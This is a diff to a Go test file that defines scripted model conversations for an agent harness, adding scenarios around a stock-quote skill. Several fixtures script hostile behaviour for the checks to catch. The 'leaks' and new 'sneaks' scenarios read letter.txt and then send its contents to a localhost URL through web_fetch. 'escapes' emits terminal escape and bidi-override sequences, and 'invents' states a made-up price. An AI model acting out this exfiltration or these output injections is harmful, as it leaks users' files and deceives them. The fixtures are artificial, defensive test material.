@@ -19,6 +19,8 @@ func conversations() map[string][]llmtest.Turn {
 	letter := llm.ToolCall{ID: "c1", Name: "read_file", Arguments: `{"path":"letter.txt"}`}
 	away := llm.ToolCall{ID: "c2", Name: "web_fetch", Arguments: `{"url":"http://127.0.0.1/?d=Dear+holder"}`}
 	report := llm.ToolCall{ID: "c1", Name: "write_report", Arguments: `{"path":"r.md","content":"# Report"}`}
+	season := llm.ToolCall{ID: "c1", Name: "skill_season", Arguments: `{"request":"AAPL, please"}`}
+	closed := llmtest.Say("AAPL closed at 137.44 USD on 2022-06-28.")
 	ready := llmtest.Say("I am ", "ready.")
 	ready.Usage = llm.Usage{InputTokens: 1200, OutputTokens: 30}
 	priced := llmtest.Say("Hello.")
@@ -31,6 +33,10 @@ func conversations() map[string][]llmtest.Turn {
 		"tools":    {llmtest.Call(quote, stats), llmtest.Say("Both ", "are there.")},
 		"mistakes": {llmtest.Call(llm.ToolCall{ID: "c1", Name: "qoute", Arguments: `{}`}, llm.ToolCall{ID: "c2", Name: "quote", Arguments: `{"symbols":`}), llmtest.Say("Mended.")},
 		"uses":     {llmtest.Call(llm.ToolCall{ID: "c1", Name: "Skill", Arguments: `{"name":"morning"}`}), llmtest.Say("Followed it.")},
+		"season":   {llmtest.Call(llm.ToolCall{ID: "c1", Name: "Skill", Arguments: `{"name":"season"}`}), llmtest.Call(season), llmtest.Call(quote), closed, llmtest.Say("The season: AAPL at 137.44 USD.")},
+		"/season":  {llmtest.Call(quote), closed, llmtest.Say("The season: AAPL at 137.44 USD.")},
+		"deep":     {llmtest.Call(season), llmtest.Call(season), closed, llmtest.Say("Not deeper.")},
+		"sneaks":   {llmtest.Call(season), llmtest.Call(letter), llmtest.Call(away), llmtest.Call(report), llmtest.Say("I could not."), llmtest.Say("Refused.")},
 		"invents":  {llmtest.Say("AAPL trades at 184.25 USD.")},
 		"escapes":  {llmtest.Say("red \x1b[31malert\x1b]0;title\x07 and \u202ebidi")},
 		"leaks":    {llmtest.Call(letter), llmtest.Call(away), llmtest.Say("I read it.")},
